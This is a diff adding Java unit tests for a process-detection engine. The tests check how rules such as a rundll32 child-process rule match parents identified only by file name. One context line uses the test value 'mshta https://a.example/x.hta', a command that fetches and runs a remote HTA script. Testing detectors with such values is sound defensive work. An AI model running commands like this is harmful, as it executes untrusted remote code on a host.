@@ -114,6 +114,21 @@ class DetectorTest {
     }
 
     @Test
+    void aParentNamedByItsFileAloneIsSeenWithTheFolderThatTheTreeKnows() throws Exception {
+        Finding finding = only(CHILD_OF_RUNDLL32,
+                start("C:\\Windows\\System32\\rundll32.exe", 20).at(2),
+                start("calc.exe", 30).at(3).byFile("rundll32.exe", 20));
+        assertEquals("C:\\Windows\\System32\\rundll32.exe", finding.why().get(0).value());
+    }
+
+    @Test
+    void aParentNamedByItsFileAloneIsMetByRulesThatAskForAFile() throws Exception {
+        assertEquals(List.of(), detect(start("C:\\Windows\\System32\\svchost.exe", 30).at(3).byFile("services.exe", 20)
+                .field("CommandLine", "svchost.exe -k netsvcs")));
+        assertEquals(1, only(CHILD_OF_RUNDLL32, start("calc.exe", 30).at(3).byFile("rundll32.exe", 20)).also().size());
+    }
+
+    @Test
     void theCommandLineThatAChildGivesOfItsParentCounts() throws Exception {
         Finding finding = only("mshta runs script from its command line or from the web",
                 start("notepad.exe", 30).at(3).by("mshta.exe", 20).field("ParentCommandLine", "mshta https://a.example/x.hta"));
